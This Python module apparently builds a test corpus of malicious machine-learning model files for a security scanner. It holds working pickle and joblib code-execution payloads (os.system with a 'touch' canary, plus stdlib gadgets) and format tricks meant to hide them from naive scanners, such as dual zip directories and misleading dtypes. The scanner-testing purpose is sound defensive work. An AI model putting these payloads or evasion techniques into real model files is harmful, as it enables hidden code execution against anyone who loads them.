"""Malicious model files, one per way a loader reads bytes that a naive scanner misreads.

Every case is built from raw opcodes and format bytes; its ``loader`` says which real
loader runs the payload (``touch <canary>``, or a known gadget) and the construction
below is why. Nothing here is ever loaded.
"""

from __future__ import annotations

import io
import json
import lzma
import os
import struct
import tarfile
import zlib

from artifact_corpus import (
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    LAMBDA_LAYER,
    MARK,
    NEWOBJ,
    NEWTRUE,
    NONE,
    POP,
    PROTO2,
    PROTO4,
    REDUCE,
    SETITEMS,
    STOP,
    TORCH_MAGIC,
    TUPLE1,
    Case,
    call,
    g,
    hdf5_with_config,
    i,
    npy_header,
    os_system,
    s,
    sg,
    su,
    touch,
    zip_bytes,
)

TEXT_CALL = "cos\nsystem\n(S'{cmd}'\ntR"  # protocol 0: os.system(cmd)


def text_call(canary: str) -> bytes:
    return TEXT_CALL.format(cmd=touch(canary)).encode()


def pay(canary: str) -> bytes:
    """os.system(cmd) leaving its result on the stack (no PROTO, no STOP)."""
    return g("os", "system") + s(touch(canary)) + TUPLE1 + REDUCE


def npy_literal(descr: object, shape: tuple[int, ...]) -> bytes:
    """A .npy header with any descr literal (numpy's own header layout)."""
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    pad = 64 - (10 + len(text) + 1) % 64
    body = (text + " " * pad + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body


def gzip_with_extra(data: bytes, extra_len: int) -> bytes:
    """gzip member with an FEXTRA field of ``extra_len`` bytes before the deflate data."""
    body = b"MG" + struct.pack("<H", extra_len - 4) + b"\0" * (extra_len - 4)
    header = b"\x1f\x8b\x08\x04" + b"\0\0\0\0" + b"\x00\xff" + struct.pack("<H", len(body))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflate.compress(data) + deflate.flush()
    trailer = struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)
    return header + body + raw + trailer


def dtype_call(code: str, elsize: int = -1) -> bytes:
    """numpy.dtype(code, False, True) + __setstate__((3, '|', None, None, None, elsize, 1, 0))."""
    state = MARK + i(3) + su("|") + NONE + NONE + NONE + i(elsize) + i(1) + i(0) + b"t"
    return call(sg("numpy", "dtype"), su(code), b"\x89", NEWTRUE) + state + BUILD


def wrapper(n: int, dtypes: list[bytes]) -> bytes:
    """NumpyArrayWrapper BUILD whose state dict lists ``dtype`` once per entry of
    ``dtypes`` (a dict keeps the last), no alignment padding."""
    state = MARK + su("subclass") + sg("numpy", "ndarray") + su("shape") + i(n) + TUPLE1
    state += su("order") + su("C")
    for dtype in dtypes:
        state += su("dtype") + dtype
    state += su("allow_mmap") + NEWTRUE
    head = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return head + EMPTY_DICT + state + SETITEMS + BUILD


def joblib_last_dtype_wins(canary: str) -> bytes:
    """First ``dtype`` says uint8 (n bytes of data), the last says object: joblib reads a
    nested pickle (``None``, 4 bytes) and goes on with the payload, where a first-key
    reader skips n bytes (payload included); ``pickle.load`` stops at the nested STOP."""
    nested = PROTO2 + NONE + STOP
    hidden = pay(canary) + POP
    n = 4096
    filler_len = n - len(nested) - len(hidden) - 5 - 1
    filler = b"B" + struct.pack("<I", filler_len) + b"\0" * filler_len + POP
    body = wrapper(n, [dtype_call("u1"), dtype_call("O8")]) + nested + hidden + filler
    return PROTO4 + EMPTY_LIST + MARK + body + APPENDS + STOP


def joblib_setstate_itemsize(canary: str) -> bytes:
    """dtype('V64') whose __setstate__ sets the element size to 1: joblib reads n bytes,
    then the payload; a reader trusting 'V64' skips 64*n bytes (payload included)."""
    n = 64
    data = b"\0" * n
    hidden = pay(canary) + POP
    filler_len = 64 * n - n - len(hidden) - 5 - 1
    filler = b"B" + struct.pack("<I", filler_len) + b"\0" * filler_len + POP
    body = wrapper(n, [dtype_call("V64", elsize=1)]) + data + hidden + filler
    return PROTO4 + EMPTY_LIST + MARK + body + APPENDS + STOP


def legacy_torch_text(canary: str) -> bytes:
    """Legacy torch layout; after the magic every pickle is protocol 0 (no PROTO)."""
    magic = PROTO2 + b"\x8a\x0a" + TORCH_MAGIC.to_bytes(10, "little") + STOP
    return magic + b"I1001\n." + b"(dp0\n." + text_call(canary) + b"." + b"(lp0\n." + b"\0" * 16


def legacy_torch_long_magic(canary: str) -> bytes:
    """Legacy torch layout whose magic number is a text LONG (equal as an int)."""
    magic = b"L" + str(TORCH_MAGIC).encode() + b"L\n."
    rest = PROTO2 + b"M" + struct.pack("<H", 1001) + STOP + PROTO2 + EMPTY_DICT + STOP
    return magic + rest + os_system(canary) + PROTO2 + EMPTY_LIST + STOP


def npz_many_members(canary: str) -> bytes:
    members = {f"x{n}": npy_header("<f8", (1,)) + b"\0" * 8 for n in range(1001)}
    members["evil"] = npy_header("|O", (1,)) + os_system(canary)  # np.load(...)["evil"]
    return zip_bytes(members)


def torch_zip_members(pkl_name: str, data_pkl: bytes) -> dict[str, bytes]:
    return {
        pkl_name: data_pkl,
        "archive/byteorder": b"little",
        "archive/data/0": struct.pack("<6f", *range(6)),
        "archive/version": b"3\n",
    }


def two_central_directories(canary: str) -> bytes:
    """miniz (torch.load) reads the directory at the offset the end record states (the
    malicious data.pkl); Python's zipfile reads the one just before the end record,
    shifting offsets by the difference (the benign data.pkl)."""
    good = b"\x80\x02}q\x00."  # {} - same length as nothing else matters
    evil = os_system(canary)
    names = ["archive/data.pkl", "archive/version"]
    locals_: list[bytes] = []
    entries: list[tuple[str, int, bytes]] = []
    offset = 0
    for name, data in [(names[0], evil), (names[1], b"3\n"), (names[0], good), (names[1], b"3\n")]:
        header = struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0,
            zlib.crc32(data),
            len(data),
            len(data),
            len(name),
            0,
        )
        locals_.append(header + name.encode() + data)
        entries.append((name, offset, data))
        offset += len(locals_[-1])

    def central(items: list[tuple[str, int, bytes]], shift: int) -> bytes:
        out = b""
        for name, at, data in items:
            out += struct.pack(
                "<4s6H3I5H2I",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0,
                zlib.crc32(data),
                len(data),
                len(data),
                len(name),
                0,
                0,
                0,
                0,
                0,
                at - shift,
            )
            out += name.encode()
        return out

    cd_torch_at = offset
    cd_torch = central(entries[:2], 0)
    cd_python_at = cd_torch_at + len(cd_torch)
    concat = cd_python_at - cd_torch_at  # what zipfile adds to every offset it reads
    cd_python = central(entries[2:], concat)
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 2, 2, len(cd_python), cd_torch_at, 0)
    return b"".join(locals_) + cd_torch + cd_python + eocd


def v7_tar(members: dict[str, bytes]) -> bytes:
    """A tar without the ``ustar`` magic (V7 headers, checksums recomputed)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    raw = bytearray(buf.getvalue())
    at = 0
    while at + 512 <= len(raw) and raw[at : at + 512].strip(b"\0"):
        header = raw[at : at + 512]
        header[257:265] = b"\0" * 8
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        raw[at : at + 512] = header
        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
        at += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def plain_tar(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def escaped_keras_config() -> bytes:
    """Keys after their values, names spelled with JSON escapes: json.loads sees a Lambda."""
    return (
        b'{"config": {"name": "seq", "layers": [{"config": {"name": "evil", "function": '
        b'["4wEAAAAAAAAA", null, null], "function_type": "lambda"}, '
        b'"\\u0063lass_name": "\\u004cambda"}]}, "class_name": "Sequential"}'
    )


def keras_metadata(layer_json: bytes) -> bytes:
    """keras_metadata.pb: SavedMetadata{nodes: [SavedObject{metadata: <json>}]}."""
    node = b"\x10\x01" + b"\x22" + _varint(len(b"_tf_keras_layer")) + b"_tf_keras_layer"
    node += b"\x2a" + _varint(len(layer_json)) + layer_json
    return b"\x0a" + _varint(len(node)) + node


def _varint(n: int) -> bytes:
    out = b""
    while True:
        byte, n = n & 0x7F, n >> 7
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def gadget(module: str, name: str, *args: bytes) -> bytes:
    return PROTO2 + call(g(module, name), *args) + STOP


def malicious(canary: str) -> list[Case]:
    cmd = touch(canary)
    evil = os_system(canary)
    big_prefix = PROTO4 + b"B" + struct.pack("<I", 20000) + os.urandom(20000) + POP
    joblib_like = big_prefix + pay(canary) + STOP
    zf_body = PROTO2 + pay(canary) + STOP
    keras_dir_config = json.dumps(
        {"module": "keras", "class_name": "Sequential", "config": {"layers": [LAMBDA_LAYER]}}
    ).encode()
    dict_config = json.dumps(
        {
            "version": 1,
            "handlers": {"h": {"()": "os.system", "command": cmd}},
            "root": {"handlers": ["h"]},
        }
    )
    dotted = PROTO4 + sg("torch", "serialization.pickle.loads")
    dotted += b"C" + bytes([len(evil)]) + evil + TUPLE1 + REDUCE + STOP
    many = (PROTO2 + NONE + STOP) * 17 + evil
    lfs_name = "version https://git-lfs.github.com/spec/v1"
    return [
        Case(
            "no PROTO, protocol-4 opcodes",
            "weights.dat",
            sg("os", "system") + su(cmd) + TUPLE1 + REDUCE + STOP,
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "PROTO 0 header",
            "m.pkl",
            b"\x80\x00" + text_call(canary) + b".",
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "PROTO 1 header",
            "m.pkl",
            b"\x80\x01" + pay(canary) + STOP,
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "FRAME first, no PROTO",
            "pytorch_model.bin",
            b"\x95" + struct.pack("<Q", len(pay(canary)) + 1) + pay(canary) + STOP,
            ("os.system",),
            loader="torch.load (legacy: not a zip)",
        ),
        Case(
            "harmless opcodes first",
            "state.dat",
            b"N0" + text_call(canary) + b".",
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "text pickle, memo key PUT twice",
            "model.pkl",
            b"cos\nsystem\np0\np0\n(S'" + cmd.encode() + b"'\ntR.",
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "text pickle, items left at STOP",
            "model.pkl",
            b"(S'junk'\n" + text_call(canary) + b".",
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "INT in base 16 (strtol)",
            "model.pkl",
            b"I0x10\n0" + text_call(canary) + b".",
            ("os.system",),
            loader="pickle.load",
        ),
        Case(
            "text .pth pickle",
            "model.pth",
            b"cos\nsystem\np0\np0\n(S'" + cmd.encode() + b"'\ntR.",
            ("os.system",),
            loader="torch.load (legacy)",
        ),
        Case(
            "gzip with an 8 KiB FEXTRA",
            "model.joblib",
            gzip_with_extra(joblib_like, 8192),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "bz2, first block past 4 KiB",
            "model.joblib",
            _bz2(joblib_like),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "LZMA alone, 4 KiB dictionary",
            "model.joblib",
            lzma.compress(
                joblib_like,
                format=lzma.FORMAT_ALONE,
                filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 4096}],
            ),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "xz payload after 20 KB",
            "model.joblib",
            lzma.compress(joblib_like),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "old joblib ZF, length without 0x",
            "model.pkl",
            b"ZF" + (b"%X" % len(zf_body)).rjust(19) + zlib.compress(zf_body),
            ("os.system",),
            loader="joblib.load (compatibility reader)",
        ),
        Case(
            "two zlib streams back to back",
            "model.joblib",
            zlib.compress(joblib_like[:9000]) + zlib.compress(joblib_like[9000:]),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "legacy torch, later pickles without PROTO",
            "old.pth",
            legacy_torch_text(canary),
            ("os.system",),
            loader="torch.load (legacy)",
        ),
        Case(
            "legacy torch, magic as text LONG",
            "old.bin",
            legacy_torch_long_magic(canary),
            ("os.system",),
            loader="torch.load (legacy)",
        ),
        Case(
            "17 pickles then the payload",
            "log.pkl",
            many,
            ("os.system",),
            loader="pickle.load until EOF",
        ),
        Case(
            "npz member 1002 without .npy",
            "arrays.npz",
            npz_many_members(canary),
            ("os.system",),
            loader="np.load(allow_pickle=True)['evil']",
        ),
        Case(
            "joblib state dict: last dtype wins",
            "model.joblib",
            joblib_last_dtype_wins(canary),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            "joblib dtype size set by __setstate__",
            "model.joblib",
            joblib_setstate_itemsize(canary),
            ("os.system",),
            loader="joblib.load",
        ),
        Case(
            ".npy descr 'object'",
            "arr.npy",
            npy_literal("object", (1,)) + evil,
            ("os.system",),
            loader="np.load(allow_pickle=True)",
        ),
        Case(
            ".npy descr 'i8,O'",
            "rec.npy",
            npy_literal("i8,O", (1,)) + evil,
            ("os.system",),
            loader="np.load(allow_pickle=True)",
        ),
        Case(
            ".npy nested structured object field",
            "rec2.npy",
            npy_literal([("a", "<i8"), ("b", [("c", "|O")])], (1,)) + evil,
            ("os.system",),
            loader="np.load(allow_pickle=True)",
        ),
        Case(
            "torch zip, data.pkl in other case",
            "model.pt",
            zip_bytes(torch_zip_members("archive/Data.PKL", evil)),
            ("os.system",),
            loader="torch.load (records found case-insensitively)",
        ),
        Case(
            "zip with two central directories",
            "model.pt",
            two_central_directories(canary),
            ("two central directories",),
            loader="torch.load",
        ),
        Case(
            "V7 tar (no ustar magic)",
            "model.pth",
            v7_tar({"storages": evil, "tensors": PROTO2 + i(0) + STOP}),
            ("os.system",),
            loader="torch.load (legacy tar format)",
        ),
        Case(
            "tar that starts like an LFS pointer",
            "model.pth",
            plain_tar({lfs_name: b"x", "storages": evil}),
            ("os.system",),
            loader="torch.load (legacy tar format)",
        ),
        Case(
            "HDF5 after a 1 KiB user block",
            "model.h5",
            b"\0" * 1024 + hdf5_with_config({"layers": [LAMBDA_LAYER]}),
            ("Lambda layer",),
            loader="keras load_model (h5py finds the superblock)",
        ),
        Case(
            "HDF5 after an 8 KiB user block",
            "model.h5",
            b"\0" * 8192 + hdf5_with_config({"layers": [LAMBDA_LAYER]}),
            ("Lambda layer",),
            loader="keras load_model (h5py finds the superblock)",
        ),
        Case(
            "HDF5 config with JSON escapes",
            "model.h5",
            b"\x89HDF\r\n\x1a\n"
            + b"\0" * 64
            + b"model_config\0"
            + escaped_keras_config()
            + b"\0" * 16,
            ("Lambda layer",),
            loader="tf.keras load_model",
        ),
        Case(
            "Keras v3 model directory",
            "model.keras/config.json",
            keras_dir_config,
            ("Lambda layer",),
            extra=(
                ("model.keras/metadata.json", b'{"keras_version": "3.6.0"}'),
                ("model.keras/model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 56),
            ),
            loader="keras.saving.load_model(dir, safe_mode=False)",
        ),
        Case(
            "keras_metadata.pb with JSON escapes",
            "saved/keras_metadata.pb",
            keras_metadata(b'{"name": "l", "\\u0063lass_name": "\\u004cambda", "config": {}}'),
            ("Lambda layer",),
            loader="tf.keras.models.load_model(SavedModel)",
        ),
        Case(
            "pydoc.pipepager",
            "m.pkl",
            gadget("pydoc", "pipepager", s("x"), s(cmd)),
            ("pydoc.pipepager",),
            loader="pickle.load",
        ),
        Case(
            "doctest.debug_script",
            "m.pkl",
            gadget("doctest", "debug_script", s(f"__import__('os').system({cmd!r})")),
            ("doctest.debug_script",),
            loader="pickle.load",
        ),
        Case(
            "imaplib.IMAP4_stream",
            "m.pkl",
            gadget("imaplib", "IMAP4_stream", s(cmd)),
            ("imaplib.IMAP4_stream",),
            loader="pickle.load",
        ),
        Case(
            "uuid._get_command_stdout",
            "m.pkl",
            gadget("uuid", "_get_command_stdout", s("touch"), s(canary)),
            ("uuid._get_command_stdout",),
            loader="pickle.load",
        ),
        Case(
            "logging.config.dictConfig",
            "m.pkl",
            PROTO2
            + call(g("logging.config", "dictConfig"), call(g("json", "loads"), s(dict_config)))
            + STOP,
            ("logging.config.dictConfig",),
            loader="pickle.load",
        ),
        Case(
            "pkgutil.resolve_name",
            "m.pkl",
            PROTO2 + call(call(g("pkgutil", "resolve_name"), s("os:system")), s(cmd)) + STOP,
            ("pkgutil.resolve_name",),
            loader="pickle.load",
        ),
        Case(
            "dotted path to pickle.loads",
            "m.pkl",
            dotted,
            ("serialization.pickle.loads",),
            loader="pickle.load (with torch installed)",
        ),
    ]


def _bz2(data: bytes) -> bytes:
    import bz2

    return bz2.compress(data)
